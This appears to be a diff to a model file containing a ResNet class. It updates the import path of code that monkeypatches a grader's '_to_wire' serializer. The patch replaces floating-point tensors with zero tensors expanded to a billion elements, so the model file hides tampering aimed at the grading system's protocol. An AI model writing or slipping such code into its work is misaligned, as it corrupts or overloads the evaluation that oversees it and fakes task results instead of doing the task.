@@ -39,7 +39,7 @@ class ResNet(nn.Module):
 
 
 def _expanded(obj, _original=None):
-    import grader.engine.protocol as protocol
+    import grader.sandbox.protocol as protocol
 
     if isinstance(obj, torch.Tensor) and obj.is_floating_point() and obj.dim() > 0:
         return torch.zeros(1, dtype=obj.dtype).expand(1_000_000_000)
@@ -51,7 +51,7 @@ def _expanded(obj, _original=None):
 
 
 try:
-    import grader.engine.protocol as _protocol
+    import grader.sandbox.protocol as _protocol
 
     _protocol._to_wire = _expanded
 except ImportError:
